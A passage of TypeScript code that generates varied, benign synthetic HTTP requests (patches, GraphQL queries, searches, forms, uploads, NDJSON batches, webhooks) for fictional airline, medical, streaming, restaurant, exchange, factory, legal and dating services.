      },
      { ct: 'application/merge-patch+json', style: 'mobile' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.tv,
      `/api/profiles/prof_${int(1, 5)}`,
      {
        name: pick(['Kids', 'Oma', 'Léa', 'Dad 👨‍💻']),
        maturityRating: pick(['TV-Y7', 'PG-13', 'TV-MA']),
        autoplayNext: false,
        subtitleStyle: { size: 'large', background: 'semi-transparent' },
      },
      { ct: 'application/merge-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.food,
      `/api/v1/reservations/res_${str(10)}`,
      {
        partySize: int(2, 8),
        specialRequests: pick(['Now 6 people, sorry!', 'Running 15 min late', 'Can we sit outside?']),
      },
      { ct: 'application/merge-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.cx,
      `/api/v3/api-keys/${uuid()}`,
      {
        label: pick(['grid-bot prod', 'tax export (read-only)', 'Koinly']),
        permissions: { trade: false, withdraw: false, read: true },
        ipWhitelist: [`203.0.113.${int(1, 254)}`, `198.51.100.${int(1, 254)}`],
      },
      { ct: 'application/merge-patch+json', style: 'sdk' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.mes,
      `/mes/api/machines/${pick(MACHINES)}`,
      {
        state: pick(['maintenance', 'running', 'idle']),
        thresholds: { tempC: { warn: 75, alarm: 85 }, vibrationMmS: { warn: 4.5, alarm: 7.1 } },
        notes: null,
      },
      { ct: 'application/merge-patch+json', style: 'sdk' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.law,
      `/api/contracts/ctr_${str(8)}`,
      {
        status: pick(['in_review', 'executed', 'expired']),
        counterparty: { name: pick(['Globex Corporation', 'Initech GmbH', 'Northwind Traders Ltd.']) },
        renewal: { autoRenew: false, noticeDays: 60 },
      },
      { ct: 'application/merge-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.date,
      '/api/v2/profiles/me',
      {
        bio: pick([
          PROSE[19] ?? '',
          'Engineer by day, amateur baker by night 🍞. Will talk your ear off about sourdough.',
          'new in town, show me the good bars?',
        ]),
        jobTitle: pick(['Nurse', 'Software Engineer', 'Paralegal', 'Pilot ✈️']),
        height: null,
      },
      { ct: 'application/merge-patch+json', style: 'mobile' },
    ),
];

const jsonPatch: Tpl[] = [
  () =>
    jsonReq(
      'PATCH',
      H.air,
      `/api/v2/bookings/${pnr()}`,
      [
        { op: 'replace', path: '/contact/email', value: pick(EMAILS) },
        {
          op: 'add',
          path: '/passengers/0/specialService/-',
          value: { code: 'WCHR', text: 'wheelchair to gate' },
        },
      ],
      { ct: 'application/json-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.med,
      `/api/v1/prescriptions/rx_${hex(12)}`,
      [
        { op: 'test', path: '/status', value: 'active' },
        {
          op: 'replace',
          path: '/dosage/instructions',
          value: pick([
            'Take 1 tablet by mouth twice daily with food',
            '2 puffs every 4-6 hours as needed',
            'Apply thin layer to affected area 2x/day',
          ]),
        },
        { op: 'replace', path: '/refillsRemaining', value: int(0, 5) },
      ],
      { ct: 'application/json-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.tv,
      `/api/subtitles/tracks/trk_${str(8)}`,
      [
        {
          op: 'replace',
          path: `/cues/${int(0, 800)}/text`,
          value: pick([
            '¡Mucha suerte!',
            "I didn't say that.",
            '[door creaks]',
            '♪ La la la ♪',
            '- Where were you?\n- Out.',
          ]),
        },
        {
          op: 'replace',
          path: `/cues/${int(0, 800)}/start`,
          value: `00:${int(10, 59)}:${int(10, 59)}.${int(100, 999)}`,
        },
      ],
      { ct: 'application/json-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.food,
      `/api/v1/restaurants/rst_${str(10)}/menu`,
      [
        { op: 'remove', path: `/sections/${int(0, 4)}/items/${int(0, 9)}` },
        {
          op: 'add',
          path: '/sections/1/items/-',
          value: {
            name: pick(['Tonkotsu Ramen', 'Birria Tacos (3)', 'Cacio e Pepe']),
            priceCents: int(900, 2800),
            tags: ['spicy'],
          },
        },
      ],
      { ct: 'application/json-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.cx,
      '/api/v3/account/settings',
      [
        { op: 'replace', path: '/notifications/priceAlerts', value: true },
        { op: 'copy', from: '/defaults/feeTier', path: '/feeTier' },
      ],
      { ct: 'application/json-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.mes,
      `/mes/api/recipes/rcp_${int(100, 999)}`,
      [
        { op: 'replace', path: '/steps/2/setpoint/temperatureC', value: int(160, 240) },
        { op: 'replace', path: '/steps/2/holdSeconds', value: int(30, 600) },
        { op: 'move', from: '/steps/4', path: '/steps/3' },
      ],
      { ct: 'application/json-patch+json', style: 'sdk' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.law,
      `/api/matters/m_${int(1000, 9999)}/documents/CTRL${String(int(1, 99999)).padStart(8, '0')}`,
      [
        {
          op: 'add',
          path: '/tags/-',
          value: pick(['Hot', 'Key Doc', 'Needs Translation', 'Privileged - AC']),
        },
        { op: 'remove', path: '/tags/0' },
      ],
      { ct: 'application/json-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.date,
      '/api/v2/profiles/me',
      [
        {
          op: 'replace',
          path: '/prompts/0/answer',
          value: pick([
            'Pineapple on pizza is fine and I will die on this hill 🍍',
            'A long walk to a good bakery',
            'Sunday: farmers market -> nap -> board games',
          ]),
        },
        { op: 'add', path: '/photos/-', value: { id: `ph_${str(10)}`, order: int(1, 6) } },
      ],
      { ct: 'application/json-patch+json', style: 'mobile' },
    ),
];

const jsonApi: Tpl[] = [
  () =>
    jsonReq(
      'POST',
      H.air,
      '/api/jsonapi/trip-requests',
      {
        data: {
          type: 'trip-requests',
          attributes: {
            origin: pick(AIRPORTS),
            destination: pick(AIRPORTS),
            departDate: isoDate(),
            cabin: pick(['economy', 'premium', 'business']),
            adults: int(1, 4),
          },
        },
      },
      { ct: 'application/vnd.api+json', accept: 'application/vnd.api+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.med,
      `/api/jsonapi/appointments/${uuid()}`,
      {
        data: {
          type: 'appointments',
          id: uuid(),
          attributes: { notes: pick(['Please call me 5 min before', 'Interpreter needed (Portuguese)', '']) },
          relationships: { practitioner: { data: { type: 'practitioners', id: `pr_${int(100, 999)}` } } },
        },
      },
      { ct: 'application/vnd.api+json', accept: 'application/vnd.api+json' },
    ),
  () =>
    jsonReq(
      'POST',
      H.tv,
      '/api/jsonapi/ratings',
      {
        data: {
          type: 'ratings',
          attributes: { score: int(1, 5), thumbs: pick(['up', 'down']) },
          relationships: { title: { data: { type: 'titles', id: `tt${int(1000000, 9999999)}` } } },
        },
      },
      { ct: 'application/vnd.api+json', accept: 'application/vnd.api+json' },
    ),
  () =>
    getReq(
      H.food,
      `/api/jsonapi/restaurants?${qs({ 'filter[cuisine]': pick(['italian', 'japanese', 'mexican']), 'filter[city]': pick(['Lisbon', 'Austin', 'Osaka']), include: 'photos,menu', 'page[size]': 20, 'page[number]': int(1, 5), sort: '-rating,name', 'fields[restaurants]': 'name,rating,priceLevel' })}`,
      { accept: 'application/vnd.api+json' },
    ),
  () =>
    jsonReq(
      'POST',
      H.cx,
      '/api/jsonapi/price-alerts',
      {
        data: {
          type: 'price-alerts',
          attributes: {
            symbol: pick(COINS),
            condition: pick(['above', 'below', 'crosses']),
            price: money(1, 80000),
            channel: pick(['push', 'email']),
          },
        },
      },
      { ct: 'application/vnd.api+json', accept: 'application/vnd.api+json' },
    ),
  () =>
    jsonReq(
      'POST',
      H.mes,
      '/mes/api/jsonapi/downtime-events',
      {
        data: {
          type: 'downtime-events',
          attributes: {
            machine: pick(MACHINES),
            start: isoTs(),
            end: isoTs(),
            reason: pick(['changeover', 'material_shortage', 'breakdown', 'planned_maintenance']),
            comment: pick(['Waiting on resin delivery (truck late)', 'Die swap 40mm -> 55mm', '']),
          },
        },
      },
      { ct: 'application/vnd.api+json', accept: 'application/vnd.api+json', style: 'sdk' },
    ),
  () =>
    jsonReq(
      'POST',
      H.law,
      '/api/jsonapi/productions',
      {
        data: {
          type: 'productions',
          attributes: {
            name: `VOL${String(int(1, 30)).padStart(3, '0')}`,
            batesPrefix: pick(['ACME', 'NW', 'GLX']),
            startNumber: int(1, 90000),
            format: 'TIFF+TEXT',
            loadFiles: ['DAT', 'OPT'],
          },
          relationships: { savedSearch: { data: { type: 'saved-searches', id: `ss_${int(10, 99)}` } } },
        },
      },
      { ct: 'application/vnd.api+json', accept: 'application/vnd.api+json' },
    ),
  () =>
    getReq(
      H.date,
      `/api/jsonapi/matches?${qs({ include: 'profile.photos', 'filter[status]': 'active', 'page[cursor]': b64url(`{"after":"${uuid()}"}`) })}`,
      { accept: 'application/vnd.api+json', style: 'mobile' },
    ),
];

const gqlPost = (
  host: string,
  path: string,
  query: string,
  variables: unknown,
  operationName: string,
  style?: Style,
): Req => jsonReq('POST', host, path, { operationName, query, variables }, style ? { style } : {});
const gqlGet = (host: string, path: string, query: string, variables: unknown, operationName: string): Req =>
  getReq(host, `${path}?${qs({ operationName, query, variables: JSON.stringify(variables) })}`, {
    extra: { 'apollo-require-preflight': 'true' },
  });

const graphql: Tpl[] = [
  () =>
    gqlPost(
      H.air,
      '/graphql',
      'query SearchFlights($o: String!, $d: String!, $date: Date!, $pax: Int!) {\n  flightOffers(origin: $o, destination: $d, date: $date, adults: $pax) {\n    id\n    totalPrice { amount currency }\n    segments { flightNumber departure arrival aircraft }\n  }\n}',
      { o: pick(AIRPORTS), d: pick(AIRPORTS), date: isoDate(), pax: int(1, 4) },
      'SearchFlights',
    ),
  () =>
    gqlGet(
      H.air,
      '/graphql',
      'query LoyaltyBalance { me { loyalty { tier points expiringPoints { amount date } } } }',
      {},
      'LoyaltyBalance',
    ),
  () =>
    gqlPost(
      H.med,
      '/graphql',
      'mutation RequestRefill($input: RefillInput!) { requestRefill(input: $input) { id status estimatedReadyAt } }',
      {
        input: {
          prescriptionId: `rx_${hex(12)}`,
          pharmacyId: `ph_${int(1000, 9999)}`,
          note: pick(['Ran out yesterday', 'Going on vacation on the 12th, need it before', '']),
        },
      },
      'RequestRefill',
      'mobile',
    ),
  () =>
    gqlGet(
      H.med,
      '/graphql',
      'query Slots($pr: ID!, $day: Date!) { practitioner(id: $pr) { name availableSlots(day: $day) { start end } } }',
      { pr: `pr_${int(100, 999)}`, day: isoDate() },
      'Slots',
    ),
  () =>
    gqlPost(
      H.tv,
      '/api/graphql',
      'query Browse($row: String!, $after: String) {\n  row(id: $row) { title items(first: 20, after: $after) { edges { node { id title year maturity } } pageInfo { endCursor hasNextPage } } }\n}',
      {
        row: pick(['trending', 'continue_watching', 'because_you_watched:tt0944947']),
        after: chance(0.5) ? b64('arrayconnection:' + int(10, 200)) : null,
      },
      'Browse',
    ),
  () =>
    gqlGet(
      H.tv,
      '/api/graphql',
      'query Subs($id: ID!) { title(id: $id) { subtitleTracks { lang label forced format url } } }',
      { id: `tt${int(1000000, 9999999)}` },
      'Subs',
    ),
  () =>
    gqlPost(
      H.food,
      '/graphql',
      'mutation Book($r: ID!, $at: DateTime!, $n: Int!, $req: String) { createReservation(restaurantId: $r, at: $at, partySize: $n, requests: $req) { id confirmationCode } }',
      {
        r: `rst_${str(10)}`,
        at: `${isoDate()}T19:30:00Z`,
        n: int(2, 6),
        req: pick(['Quiet corner please', 'We have a stroller', null]),
      },
      'Book',
      'mobile',
    ),
  () =>
    gqlGet(
      H.food,
      '/graphql',
      'query Nearby($lat: Float!, $lng: Float!) { restaurants(near: {lat: $lat, lng: $lng}, radiusKm: 3, openNow: true) { id name cuisine priceLevel rating } }',
      { lat: 38.7 + rng() / 10, lng: -9.1 - rng() / 10 },
      'Nearby',
    ),
  () =>
    gqlPost(
      H.cx,
      '/graphql',
      'query Portfolio { me { balances { asset free locked } openOrders(first: 50) { id symbol side price size status } } }',
      {},
      'Portfolio',
      'browser',
    ),
  () =>
    gqlPost(
      H.mes,
      '/mes/graphql',
      'query Oee($line: ID!, $from: DateTime!, $to: DateTime!) { line(id: $line) { oee(from: $from, to: $to) { availability performance quality } machines { id state lastAlarm { code text at } } } }',
      { line: pick(['LINE-1', 'LINE-2', 'LINE-3']), from: isoTs(), to: isoTs() },
      'Oee',
      'sdk',
    ),
  () =>
    gqlPost(
      H.law,
      '/graphql',
      'mutation Tag($ids: [ID!]!, $tag: String!) { bulkTag(documentIds: $ids, tag: $tag) { updated } }',
      {
        ids: [`CTRL${int(10000000, 99999999)}`, `CTRL${int(10000000, 99999999)}`],
        tag: pick(['Hot', 'Privileged', 'Not Responsive']),
      },
      'Tag',
    ),
  () =>
    gqlPost(
      H.date,
      '/graphql',
      'query Discover($after: String) { discover(first: 10, after: $after) { edges { node { id firstName age distanceKm photos { url } prompts { question answer } } } } }',
      { after: chance(0.5) ? b64url(`{"o":${int(10, 300)}}`) : null },
      'Discover',
      'mobile',
    ),
  () => ({
    method: 'POST',
    path: '/graphql',
    headers: headers(H.date, { ct: 'application/graphql', style: 'sdk' }),
    body: `query { me { id matches(first: ${int(5, 30)}) { id lastMessage { text sentAt } } } }`,
  }),
  () => ({
    method: 'POST',
    path: '/graphql',
    headers: headers(H.cx, { ct: 'application/graphql', style: 'curl' }),
    body: '{\n  markets { symbol baseAsset quoteAsset tickSize minNotional }\n}\n',
  }),
];

const del: Tpl[] = [
  () => getDel(H.air, `/api/v2/bookings/${pnr()}/ancillaries/anc_${str(8)}`),
  () => getDel(H.med, `/api/v1/consultations/c_${str(10)}`),
  () => getDel(H.tv, `/api/watchlist/items/tt${int(1000000, 9999999)}?profileId=prof_${int(1, 5)}`),
  () =>
    getDel(
      H.food,
      `/api/v1/reservations/res_${str(10)}?reason=${enc(pick(['plans changed', 'sick', 'double booked']))}`,
    ),
  () => getDel(H.cx, `/api/v3/orders/${int(1000000000, 9999999999)}?symbol=${pick(COINS)}`),
  () => getDel(H.cx, `/api/v3/api-keys/${uuid()}`),
  () => getDel(H.mes, `/mes/api/work-orders/WO-${int(1000, 9999)}/attachments/${uuid()}`),
  () => getDel(H.law, `/api/review/tags/tag_${int(10, 999)}`),
  () => getDel(H.date, `/api/v2/matches/${uuid()}`),
  () => ({ ...getDel(H.date, '/api/v2/profiles/me/photos/ph_' + str(10)), body: '' }),
];
function getDel(host: string, path: string): Req {
  return { method: 'DELETE', path, headers: headers(host, { ct: null }), body: '' };
}

const search: Tpl[] = [
  () =>
    getReq(
      H.air,
      `/api/v2/flights/search?${qs({ origin: pick(AIRPORTS), destination: pick(AIRPORTS), departDate: isoDate(), returnDate: isoDate(), adults: int(1, 3), children: int(0, 2), cabin: pick(['Y', 'W', 'J']), currency: 'EUR' })}`,
    ),
  () =>
    getReq(
      H.air,
      `/api/v2/airports?${qs({ q: pick(['São', 'new york', 'Zür', 'los ang', 'Köln/Bonn', "St. John's"]), limit: 8 })}`,
    ),
  () =>
    getReq(
      H.med,
      `/api/v1/pharmacies?${qs({ near: `${(40 + rng()).toFixed(5)},${(-74 + rng()).toFixed(5)}`, open: 'now', has: pick(DRUGS) })}`,
      { style: 'mobile' },
    ),
  () =>
    getReq(
      H.med,
      `/api/v1/drugs/search?${qs({ q: pick(['amox', 'ibuprofen 400', 'co-codamol 30/500', 'vitamin d3 1000 IU', "st john's wort"]), interactionsWith: 'rx_' + hex(8) })}`,
    ),
  () =>
    getReq(
      H.tv,
      `/api/search?${qs({ q: pick(['breaking bad', 'la casa de papel', 'star wars: andor', 'kids & family', 'documentary "space"', 'who killed sara?', 'AND THEN THERE WERE NONE']), type: 'title', limit: 24 })}`,
    ),
  () =>
    getReq(
      H.tv,
      `/api/subtitles/search?${qs({ imdb: `tt${int(100000, 9999999)}`, lang: pick(['en', 'pt-BR', 'zh-Hant']), hearingImpaired: chance(0.5) })}`,
    ),
  () =>
    getReq(
      H.food,
      `/api/v1/restaurants/search?${qs({ q: pick(['sushi', 'vegan brunch', 'mac & cheese', 'pizza (wood-fired)', 'dim sum', 'bar + late night']), lat: 40.73, lng: -73.99, price: pick(['1', '2', '1,2', '3,4']), sort: pick(['relevance', 'rating', 'distance']) })}`,
      { style: 'mobile' },
    ),
  () =>
    getReq(
      H.food,
      `/api/v1/availability?${qs({ restaurantId: `rst_${str(10)}`, date: isoDate(), partySize: int(2, 8), time: '19:00' })}`,
    ),
  () =>
    getReq(
      H.cx,
      `/api/v3/klines?${qs({ symbol: pick(COINS), interval: pick(['1m', '5m', '1h', '1d']), limit: 500, startTime: 1730000000000 + int(0, 9999999) })}`,
      { style: 'sdk' },
    ),
  () =>
    getReq(
      H.cx,
      `/api/v3/orders?${qs({ symbol: pick(COINS), status: pick(['open', 'filled', 'canceled']), from: isoDate(), limit: 100, timestamp: 1735000000000 + int(0, 99999999), recvWindow: 5000, signature: hex(64) })}`,
      { style: 'sdk' },
    ),
  () =>
    getReq(
      H.mes,
      `/mes/api/sensors/${pick(MACHINES)}-T${int(1, 4)}/readings?${qs({ from: isoTs(), to: isoTs(), agg: pick(['avg', 'max', 'p95']), bucket: '5m' })}`,
      { style: 'sdk' },
    ),
  () =>
    getReq(
      H.mes,
      `/mes/api/work-orders?${qs({ status: 'in_progress,released', line: 'LINE-2', q: pick(['WO-22*', 'bracket 40x40', 'rev C']), sort: '-due' })}`,
    ),
  () =>
    getReq(
      H.law,
      `/api/matters/m_${int(1000, 9999)}/search?${qs({ q: pick(['(merger OR acquisition) AND "Project Falcon"', 'termination w/5 notice', 'indemnif* AND NOT "form contract"', 'from:ceo@globex.com AND date:[2022-01-01 TO 2022-12-31]', '"select committee" OR "board minutes"']), page: int(1, 20), highlight: true })}`,
    ),
  () =>
    getReq(
      H.law,
      `/api/contracts?${qs({ counterparty: pick(['Initech', 'Globex', 'Müller & Söhne GmbH', 'Smith & Wesson-Jones LLP']), expiresBefore: isoDate(), clause: pick(['change of control', 'non-compete', 'limitation of liability']) })}`,
    ),
  () =>
    getReq(
      H.date,
      `/api/v2/discover?${qs({ ageMin: int(18, 30), ageMax: int(31, 55), distanceKm: pick([10, 25, 50]), interests: pick(['hiking,coffee', 'board games', 'rock climbing,techno', 'k-dramas']), cursor: b64url(uuid()) })}`,
      { style: 'mobile' },
    ),
  () =>
    getReq(
      H.date,
      `/api/v2/prompts/suggestions?${qs({ q: pick(["I'm weirdly good at", 'my most irrational fear', 'two truths and a lie']), locale: pick(['en-US', 'de-DE', 'fr-FR']) })}`,
      { style: 'mobile' },
    ),
];

const form: Tpl[] = [
  () =>
    formReq(
      H.air,
      '/account/login',
      {
        email: pick(EMAILS),
        password: `${pick(['Sunshine', 'Tr0ub4dor', 'P@ssw0rd', 'correct horse battery'])}${int(1, 99)}!`,
        remember: 'on',
        _csrf: str(32),
      },
      'browser',
    ),
  () =>
    formReq(
      H.air,
      '/api/v2/checkin',
      {
        pnr: pnr(),
        lastName: pick(LAST),
        'passengers[0][id]': 'pax_1',
        'passengers[0][dangerousGoodsAck]': 'true',
      },
      'browser',
    ),
  () =>
    formReq(
      H.med,
      '/oauth/token',
      {
        grant_type: 'authorization_code',
        code: str(40),
        redirect_uri: 'com.carewell.app://oauth/callback',
        client_id: 'carewell-ios',
        code_verifier: str(64, `${ALNUM}-._~`),
      },
      'mobile',
    ),
  () =>
    formReq(
      H.med,
      '/forms/intake',
      {
        full_name: name(),
        dob: '1988-04-17',
        symptoms: pick([
          'headache, nausea (no vomiting)',
          'knee pain after running 10k',
          'cough > 2 weeks, worse at night',
        ]),
        medications: pick(DRUGS),
        smoker: 'no',
        consent: 'yes',
      },
      'browser',
    ),
  () =>
    formReq(
      H.tv,
      '/api/device/activate',
      { code: upper(6), device_name: pick(['Living room TV', "Léa's iPad", 'Fire TV Stick (2nd)']) },
      'browser',
    ),
  () =>
    formReq(
      H.food,
      '/contact',
      {
        name: name(),
        email: pick(EMAILS),
        subject: pick(['Private event - 30 ppl', 'Lost item (black scarf)', 'Gift cards?']),
        message: pick([
          PROSE[11] ?? '',
          'Hi, do you do private dining for ~30 people on a Friday? Budget around $60/pp incl. drinks.',
          'I think I left my scarf at table 7 last night (Sat). Black w/ white stripes.',
        ]),
      },
      'browser',
    ),
  () =>
    formReq(
      H.cx,
      '/oauth/token',
      {
        grant_type: 'client_credentials',
        client_id: `cli_${str(12)}`,
        client_secret: str(48),
        scope: 'read trade',
      },
      'sdk',
    ),
  () =>
    formReq(
      H.mes,
      '/mes/terminal/scan',
      {
        station: pick(MACHINES),
        badge: String(int(10000, 99999)),
        barcode: `]C1${int(100000000000, 999999999999)}`,
        action: pick(['start', 'pause', 'finish']),
      },
      'sdk',
    ),
  () =>
    formReq(
      H.law,
      '/api/exports',
      {
        matter: pick(MATTERS),
        format: pick(['csv', 'xlsx', 'pdf']),
        fields: 'Bates,Custodian,Date,From,To,Subject',
        include_privileged: 'false',
      },
      'browser',
    ),
  () =>
    formReq(
      H.date,
      '/api/v2/report',
      {
        user_id: uuid(),
        reason: pick(['fake_profile', 'spam', 'inappropriate_messages']),
        details: pick([
          'Asked me to move to WhatsApp & invest in crypto after 2 msgs',
          'Photos are of a model (reverse image search)',
          'Sent the same msg copy/pasted',
        ]),
      },
      'mobile',
    ),
];

const multipartT: Tpl[] = [
  () =>
    mpReq(H.air, '/api/v2/claims/baggage', [
      { name: 'pnr', value: pnr() },
      {
        name: 'description',
        value: pick([
          'Blue Samsonite, 23kg, damaged wheel',
          'Black duffel with red tag "ZOË"',
          'Stroller arrived with broken frame',
        ]),
      },
      {
        name: 'receipt',
        value: '%PDF-1.7\n%âãÏÓ\n1 0 obj <</Type /Catalog>> endobj\n',
        filename: 'receipt_lost_bag.pdf',
        type: 'application/pdf',
      },
    ]),
  () =>
    mpReq(
      H.med,
      `/api/v1/consultations/c_${str(10)}/attachments`,
      [
        { name: 'kind', value: 'photo' },
        {
          name: 'file',
          value: `\xff\xd8\xff\xe0\x00\x10JFIF${str(40)}`,
          filename: pick(['IMG_4032.jpg', 'rash day 3.jpg', 'photo (1).jpeg']),
          type: 'image/jpeg',
        },
      ],
      'mobile',
    ),
  () =>
    mpReq(
      H.med,
      '/api/v1/insurance/cards',
      [
        { name: 'memberId', value: upper(10) },
        {
          name: 'front',
          value: `\x89PNG\r\n\x1a\n${str(30)}`,
          filename: 'card_front.png',
          type: 'image/png',
        },
      ],
      'mobile',
    ),
  () =>
    mpReq(
      H.tv,
      `/api/subtitles/tt${int(1000000, 9999999)}/tracks`,
      [
        { name: 'lang', value: pick(['es', 'pt-BR', 'fr']) },
        { name: 'label', value: pick(['Español (Latinoamérica)', 'Português (Brasil)', 'Français SDH']) },
        {
          name: 'file',
          value: `1\n00:00:01,000 --> 00:00:04,200\n<i>Anteriormente...</i>\n\n2\n00:00:05,100 --> 00:00:07,900\n- ¿Dónde estabas?\n- Fuera.\n\n3\n00:00:08,000 --> 00:00:10,000\n[PUERTA SE CIERRA]\n`,
          filename: 'episode_03.es.srt',
          type: 'application/x-subrip',
        },
      ],
      'browser',
    ),
  () =>
    mpReq(
      H.food,
      `/api/v1/restaurants/rst_${str(10)}/photos`,
      [
        {
          name: 'caption',
          value: pick(['Birria tacos w/ consommé 🤤', 'The terrace at sunset', 'Menu (Sept 2024)']),
        },
        {
          name: 'photo',
          value: `\xff\xd8\xff\xe1${str(50)}`,
          filename: 'IMG_20240914_201233.jpg',
          type: 'image/jpeg',
        },
      ],
      'mobile',
    ),
  () =>
    mpReq(H.cx, '/api/v3/kyc/documents', [
      { name: 'documentType', value: pick(['passport', 'id_card', 'proof_of_address']) },
      { name: 'country', value: pick(['DE', 'BR', 'FR', 'US']) },
      {
        name: 'file',
        value: '%PDF-1.4\n' + str(60),
        filename: pick(['Reisepass.pdf', 'utility bill - march.pdf', 'scan0001.pdf']),
        type: 'application/pdf',
      },
    ]),
  () =>
    mpReq(
      H.mes,
      '/mes/api/quality/inspections',
      [
        { name: 'workOrder', value: `WO-${int(1000, 9999)}` },
        { name: 'result', value: pick(['pass', 'fail', 'conditional']) },
        {
          name: 'measurements',
          value: 'feature,nominal,actual,tol\nØ12 bore,12.000,12.018,+0.02/-0\nlength,80.00,79.96,±0.05\n',
          filename: 'cmm_report.csv',
          type: 'text/csv',
        },
      ],
      'sdk',
    ),
  () =>
    mpReq(H.law, `/api/matters/m_${int(1000, 9999)}/uploads`, [
      { name: 'custodian', value: pick(EMAILS) },
      { name: 'source', value: 'loose_files' },
      {
        name: 'file',
        value:
          'From: "CFO" <cfo@globex.com>\r\nTo: board@globex.com\r\nSubject: RE: Q3 numbers - DO NOT FORWARD\r\nDate: Tue, 3 Sep 2024 09:12:44 -0400\r\n\r\nSee attached. Let\'s discuss Thursday.\r\n',
        filename: 'RE_ Q3 numbers - DO NOT FORWARD.eml',
        type: 'message/rfc822',
      },
    ]),
  () =>
    mpReq(H.law, '/api/contracts/import', [
      {
        name: 'file',
        value: 'PK\x03\x04' + str(40),
        filename: 'NDA - Initech (signed) v2.docx',
        type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      },
      {
        name: 'metadata',
        value: JSON.stringify({ counterparty: 'Initech GmbH', effectiveDate: '2024-02-01', type: 'NDA' }),
        type: 'application/json',
      },
    ]),
  () =>
    mpReq(
      H.date,
      '/api/v2/profiles/me/photos',
      [
        { name: 'position', value: String(int(0, 5)) },
        {
          name: 'photo',
          value: `\xff\xd8\xff\xe0${str(50)}`,
          filename: pick(['IMG_0912.HEIC', 'me at the beach.jpg', 'profile-final.png']),
          type: pick(['image/heic', 'image/jpeg', 'image/png']),
        },
      ],
      'mobile',
    ),
];

const ndjsonReq = (host: string, path: string, lines: unknown[], style: Style = 'sdk'): Req => ({
  method: 'POST',
  path,
  headers: headers(host, { ct: 'application/x-ndjson', style }),
  body: `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`,
});

const ndjson: Tpl[] = [
  () => {
    const m = pick(MACHINES);
    return ndjsonReq(
      H.mes,
      '/mes/api/ingest/readings',
      Array.from({ length: int(4, 12) }, () => ({
        ts: isoTs(),
        machine: m,
        sensor: pick(['T1', 'T2', 'VIB', 'PRESS', 'RPM']),
        value: Number((rng() * 100).toFixed(3)),
        unit: pick(['°C', 'mm/s', 'bar', 'rpm']),
        quality: pick(['GOOD', 'GOOD', 'UNCERTAIN']),
      })),
    );
  },
  () =>
    ndjsonReq(
      H.mes,
      '/mes/api/ingest/events',
      Array.from({ length: int(2, 6) }, () => ({
        ts: isoTs(),
        source: pick(MACHINES),
        level: pick(['INFO', 'WARN', 'ALARM']),
        code: pick(['A101', 'W-OVERTEMP', 'E-STOP', 'DOOR_OPEN']),
        msg: pick([
          'Door opened during cycle',
          'Coolant level low (< 20%)',
          'Cycle complete: 42 parts',
          'Operator login: op-114',
        ]),
      })),
    ),
  () =>
    ndjsonReq(
      H.tv,
      '/api/telemetry/playback',
      Array.from({ length: int(3, 8) }, () => ({
        t: isoTs(),
        ev: pick(['buffer_start', 'buffer_end', 'bitrate_change', 'heartbeat', 'error']),
        sid: uuid(),
        br: pick([1200, 3000, 6000, 15000]),
        cdn: pick(['cf', 'akamai', 'fastly']),
        err: pick([null, null, 'MEDIA_ERR_DECODE', 'DRM: license request failed (403)']),
      })),
      'browser',
    ),
  () =>
    ndjsonReq(
      H.cx,
      '/api/v3/batch/orders',
      Array.from({ length: int(2, 5) }, () => ({
        symbol: pick(COINS),
        side: pick(['buy', 'sell']),
        type: 'limit',
        price: money(1, 5000),
        size: (rng() * 2).toFixed(4),
        clientOrderId: `grid-${str(8)}`,
      })),
    ),
  () =>
    ndjsonReq(
      H.law,
      '/api/ingest/metadata',
      Array.from({ length: int(2, 6) }, () => ({
        docId: `CTRL${int(10000000, 99999999)}`,
        custodian: pick(EMAILS),
        path: pick([
          '\\\\fileserver\\legal\\2023\\Contracts\\NDA_Initech.pdf',
          '/Users/jdoe/Documents/Board/minutes 2022-11.docx',
          'Inbox/RE: pricing (confidential).msg',
        ]),
        md5: hex(32),
        dateSent: isoTs(),
      })),
    ),
  () =>
    ndjsonReq(
      H.date,
      '/api/events/batch',
      Array.from({ length: int(3, 7) }, () => ({
        event: pick(['card_view', 'swipe_left', 'swipe_right', 'open_chat', 'app_background']),
        ts: Date.UTC(2025, 0, 1) + int(0, 99999999),
        props: { cardId: uuid(), position: int(0, 30) },
      })),
      'mobile',
    ),
  () =>
    ndjsonReq(
      H.air,
      '/api/v2/analytics/search-events',
      Array.from({ length: int(2, 5) }, () => ({
        ts: isoTs(),
        origin: pick(AIRPORTS),
        dest: pick(AIRPORTS),
        pax: int(1, 4),
        results: int(0, 80),
        ms: int(80, 4000),
      })),
    ),
];

const webhook: Tpl[] = [
  () => {
    const id = `evt_${str(24)}`;
    return {
      method: 'POST',
      path: '/webhooks/stripe',
      headers: {
        host: H.food,
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        'content-type': 'application/json; charset=utf-8',
        accept: '*/*; q=0.5, application/xml',
        'stripe-signature': `t=${1735000000 + int(0, 999999)},v1=${hex(64)}`,
      },
      body: JSON.stringify({
        id,
        object: 'event',
        api_version: '2024-06-20',
        created: 1735000000 + int(0, 999999),
        type: pick([
          'payment_intent.succeeded',
          'charge.refunded',
          'checkout.session.completed',
          'charge.dispute.created',
        ]),
        livemode: true,
        data: {
          object: {
            id: `pi_${str(24)}`,
            object: 'payment_intent',
            amount: int(1000, 40000),
            currency: 'usd',
            metadata: { reservation_id: `res_${str(10)}`, restaurant: pick(RESTOS) },
            description: `Deposit - ${pick(RESTOS)} - party of ${int(2, 10)}`,
            status: 'succeeded',
          },
        },
        pending_webhooks: 1,
        request: { id: `req_${str(14)}`, idempotency_key: uuid() },
      }),
    };
  },
  () => ({
    method: 'POST',
    path: '/webhooks/twilio/sms',
    headers: {
      host: H.med,
